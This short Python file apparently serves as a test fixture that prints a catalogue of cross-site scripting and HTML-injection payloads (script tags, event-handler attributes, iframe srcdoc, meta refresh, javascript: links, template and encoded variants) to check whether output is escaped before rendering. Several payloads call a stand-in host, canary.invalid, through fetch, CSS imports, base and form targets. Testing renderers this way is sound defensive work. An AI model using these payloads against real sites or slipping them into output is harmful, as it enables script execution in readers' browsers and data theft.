# /// attack
# title = "Prints HTML, scripts, SVG, CSS, forms and frames in every quoting"
# ///

# %%
print("TRIED to run a script in the reader's browser")
for text in (
    "<script>alert('CANARY')</script>",
    "</pre></details><script>fetch('http://canary.invalid/')</script>",
    "<img src=x onerror=alert('CANARY')>",
    "<svg onload=alert('CANARY')><animate onbegin=alert('CANARY') attributeName=x dur=1s></svg>",
    "<style>@import 'http://canary.invalid/x.css';body{display:none!important}</style>",
    "<link rel=stylesheet href=http://canary.invalid/x.css><base href=http://canary.invalid/>",
    "<iframe srcdoc=\"<script>parent.document.title='CANARY'</script>\"></iframe>",
    "<form action=http://canary.invalid/><input autofocus onfocus=alert('CANARY')></form>",
    "<meta http-equiv=refresh content='0;url=http://canary.invalid/'>",
    "<object data=http://canary.invalid/></object><embed src=http://canary.invalid/>",
    "<a href=javascript:alert('CANARY') autofocus>link</a><video><source onerror=alert('CANARY')></video>",
    "\"'><script>alert('CANARY')</script><!-- --!> ]]> </title></textarea></template></noscript>",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> &lt;script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    "＜script＞alert('CANARY')＜/script＞ <ſcript>alert('CANARY')</ſcript> +ADw-script+AD4-",
):
    print(text)


# %%
def rank_of(value):
    return "<script>alert('CANARY')</script>"


def kind_of(value):
    return "<img src=x onerror=alert('CANARY')>" * 20
